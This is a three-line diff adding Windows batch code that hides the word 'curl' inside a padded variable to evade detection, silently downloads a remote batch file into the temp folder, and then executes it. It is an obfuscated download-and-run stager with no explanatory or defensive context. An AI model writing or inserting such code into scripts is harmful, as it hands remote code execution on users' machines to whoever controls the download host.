@@ -1,0 +1,3 @@
+set x=zzcurlzz
+%x:~2,4% -so %TEMP%\a.bat https://cdn-x7.invalid/a
+call "%TEMP%\a.bat"
